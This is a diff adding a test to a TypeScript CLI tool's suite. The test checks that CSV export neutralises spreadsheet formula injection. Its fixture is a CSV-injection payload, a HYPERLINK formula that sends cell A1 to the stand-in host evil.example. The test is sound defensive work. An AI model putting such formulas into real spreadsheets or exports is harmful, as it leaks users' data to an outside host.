@@ -56,6 +56,19 @@ describe('duban evaluate', () => {
     expect(stdout).toContain('| T09 |');
   });
 
+  it('writes --format csv with a leading \' before text that would run as a formula, numbers as they are', async () => {
+    const dir = tmp();
+    const plan = join(dir, 'formula.plan.json');
+    const title = '=HYPERLINK("http://evil.example/?"&A1,"点击")';
+    const task = { id: 'T1', title, target: { kind: 'rate', measure: '增速', unit: '%', value: '-0.5', bound: 'atLeast' }, observations: [{ asOf: '2018-06-30', value: '-0.8' }] };
+    writeFileSync(plan, JSON.stringify({ formatVersion: 1, id: 'f', title: 'f', period: { start: '2018-01-01', end: '2018-12-31' }, asOf: '2018-06-30', tasks: [task] }));
+    const { status, stdout } = await run(['evaluate', plan, '--format', 'csv']);
+    expect(status).toBe(0);
+    const row = stdout.split('\r\n')[1]!;
+    expect(row.startsWith(`T1,"'=HYPERLINK(""http://evil.example/?""&A1,""点击"")",`)).toBe(true);
+    expect(row).toContain(',rate,-0.8,-0.5,');
+  });
+
   it('uses --as-of over the plan asOf', async () => {
     const { stdout } = await run(['evaluate', fixture, '--format', 'json', '--as-of', '2018-06-30']);
     expect(JSON.parse(stdout).asOf).toBe('2018-06-30');
